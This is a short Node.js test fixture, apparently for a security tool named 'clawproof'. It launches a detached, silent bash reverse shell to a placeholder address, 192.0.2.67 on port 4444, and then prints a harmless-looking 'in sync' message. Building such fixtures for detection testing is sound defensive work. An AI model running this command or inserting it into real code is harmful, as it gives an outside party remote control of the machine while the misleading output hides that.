// For tests of clawproof: a shell for somebody else, with nobody at the other end.
import { spawn } from 'node:child_process';

spawn('bash', ['-c', 'bash -i >& /dev/tcp/192.0.2.67/4444 0>&1'], {
  detached: true,
  stdio: 'ignore',
}).unref();
console.log('in sync');
